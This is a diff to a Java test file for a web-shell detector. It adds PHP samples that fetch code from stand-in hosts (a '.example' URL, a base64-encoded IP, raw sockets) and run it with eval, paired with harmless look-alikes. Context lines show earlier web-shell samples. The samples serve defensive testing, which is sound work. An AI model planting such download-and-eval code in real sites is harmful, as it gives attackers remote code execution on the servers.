@@ -93,6 +93,30 @@ final class WebShellFlowTest {
         <?php $callback = $settings['callback']; $callback($_POST['form']);
         """;
 
+    /** Code that a page fetches from elsewhere at each call, as in "must-use" plugins of WordPress (Sucuri, 2025). */
+    private static final String FETCHERS = """
+        <?php $from = 'https://raw.code-store.example/u/k/main/p.txt'; $got = file_get_contents($from); eval("?>" . $got);
+
+        <?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, base64_decode('aHR0cDovLzE5OC41MS4xMDAuNy9h')); $body = trim(curl_exec($c)); curl_close($c); @eval($body);
+
+        <?php eval(wp_remote_retrieve_body(wp_remote_get(get_option('k'))));
+
+        <?php function get($u) { $h = fopen($u, 'r'); $all = ''; while (!feof($h)) { $all .= fread($h, 8192); } return $all; }
+        $text = get('http' . '://203.0.113.9/z'); eval('?>' . $text);
+
+        <?php $s = fsockopen('203.0.113.9', 80); fwrite($s, "GET /q"); $r = fgets($s); $f = create_function('', $r); $f();
+        """;
+
+    private static final String NO_FETCHERS = """
+        <?php $news = json_decode(file_get_contents('https://www.data.example/api')); echo htmlspecialchars($news->title);
+
+        <?php $c = curl_init($url); $body = curl_exec($c); assert(is_string($body)); return $body;
+
+        <?php /* @see https://www.php.net/eval */ $f = fopen('php://memory', 'r+'); eval('return 1;');
+
+        <?php $reply = wp_remote_get('https://api.shop.example/v1'); $parser->evaluate($reply); eval($template);
+        """;
+
     private static final String JSP = """
         <%@ page import="java.io.*" %><% Class c = Class.forName("java.la" + "ng.Run" + "time"); Object o = c.getMethod("getRunt" + "ime").invoke(null); %>
 
@@ -120,6 +144,7 @@ final class WebShellFlowTest {
     @Test
     void whatARequestGivesIsFollowedToWhereItIsRun() {
         assertEquals(List.of(), silent("x.php", SHELLS));
+        assertEquals(List.of(), silent("x.php", FETCHERS));
         assertEquals(List.of(), silent("x.jsp", JSP));
         assertEquals(List.of(), silent("x.aspx", ASPX));
     }
@@ -127,6 +152,7 @@ final class WebShellFlowTest {
     @Test
     void theirHarmlessNeighboursAreNoItems() {
         assertEquals(pages(PAGES), silent("x.php", PAGES));
+        assertEquals(pages(NO_FETCHERS), silent("x.php", NO_FETCHERS));
         String jsp =
                 "<% Class.forName(\"org.postgresql.Driver\"); new FileOutputStream(\"/tmp/log\"); out.print(\"a\" + \"b\"); %>";
         String aspx =
